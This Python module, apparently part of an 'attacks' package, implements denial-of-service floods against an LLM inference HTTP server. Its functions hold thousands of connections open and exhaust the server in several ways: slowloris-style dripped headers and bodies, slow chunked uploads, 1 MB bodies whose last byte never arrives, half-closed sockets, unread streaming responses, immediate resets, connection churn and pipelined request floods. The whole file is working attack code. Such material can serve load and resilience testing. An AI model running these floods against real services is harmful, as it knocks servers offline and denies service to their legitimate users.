"""Many connections at once, and clients that take their time: what one client holds of what others need."""

from __future__ import annotations

import contextlib
import json
import resource
import socket
import time
from collections.abc import Callable, Iterator

from attacks.wire import Target, head, post, small

HEAVY = 1_000_000  # bytes; the demo takes 1 MiB
STORY = json.dumps({"model": "dsv4-demo", "stream": True, "max_tokens": 3000, "min_tokens": 2500,
                    "messages": [{"role": "user", "content": "Tell me a story"}]}).encode()  # fmt: skip


def raise_limit() -> None:
    """As many open files as all floods need at once."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 8192)), hard))


@contextlib.contextmanager
def held(target: Target, count: int, first: bytes) -> Iterator[list[socket.socket]]:
    """`count` connections that have sent `first`."""
    raise_limit()
    clients: list[socket.socket] = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                clients.append(target.connect(2.0))
                clients[-1].settimeout(0.2)  # who reads nothing more must not keep the attacker
                clients[-1].sendall(first)
        yield clients
    finally:
        for client in clients:
            client.close()


def drip(clients: list[socket.socket], seconds: float, piece: bytes) -> None:
    """One piece a second on each."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for client in clients:
            with contextlib.suppress(OSError):
                client.sendall(piece)
        time.sleep(1.0)


def idle(target: Target, seconds: float, count: int = 1500) -> None:
    with held(target, count, b""):
        time.sleep(seconds)


def slow_heads(target: Target, seconds: float, count: int = 600) -> None:
    with held(target, count, b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n") as clients:
        drip(clients, seconds, b"X-A: b\r\n")


def slow_bodies(target: Target, seconds: float, count: int = 600) -> None:
    first = head("POST", "/v1/completions", {"Content-Type": "application/json", "Content-Length": "5000"})
    with held(target, count, first + b"{") as clients:
        drip(clients, seconds, b" ")


def slow_chunks(target: Target, seconds: float, count: int = 600) -> None:
    first = head("POST", "/v1/chat/completions", {"Content-Type": "application/json", "Transfer-Encoding": "chunked"})
    with held(target, count, first) as clients:
        drip(clients, seconds, b"1\r\n \r\n")


def heavy_bodies(target: Target, seconds: float, count: int = 400) -> None:
    """Bodies of nearly the largest size whose last byte never comes."""
    first = head("POST", "/v1/completions", {"Content-Type": "application/json", "Content-Length": str(HEAVY)})
    with held(target, count, first + b" " * (HEAVY - 1)):
        time.sleep(seconds)


def half_closed(target: Target, seconds: float, count: int = 100) -> None:
    """They send a whole request, say that nothing more comes, and never read."""
    with held(target, count, post(small())) as clients:
        for client in clients:
            with contextlib.suppress(OSError):
                client.shutdown(socket.SHUT_WR)
        time.sleep(seconds)


def unread_streams(target: Target, seconds: float, count: int = 8) -> None:
    """Streams whose client takes nothing."""
    with held(target, count, b"") as clients:
        for client in clients:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            with contextlib.suppress(OSError):
                client.sendall(post(STORY, "/v1/chat/completions"))
        time.sleep(seconds)


def resets(target: Target, seconds: float) -> None:
    """Requests whose client resets the connection at once."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect(2.0) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            client.sendall(post(STORY, "/v1/chat/completions"))
        time.sleep(0.05)


def connects(target: Target, seconds: float) -> None:
    """Connections that are closed as soon as they are made."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            target.connect(1.0).close()


def pipelined(target: Target, seconds: float) -> None:
    """A thousand requests in one go whose answers nobody reads."""
    with held(target, 4, post(small()).replace(b"Connection: close", b"Connection: keep-alive") * 1000):
        time.sleep(seconds)


FLOODS: dict[str, tuple[Callable[[Target, float], None], ...]] = {
    "connections": (idle, slow_heads, connects),
    "answers": (half_closed, unread_streams, resets, pipelined),
    "bodies": (slow_bodies, slow_chunks, heavy_bodies),
}
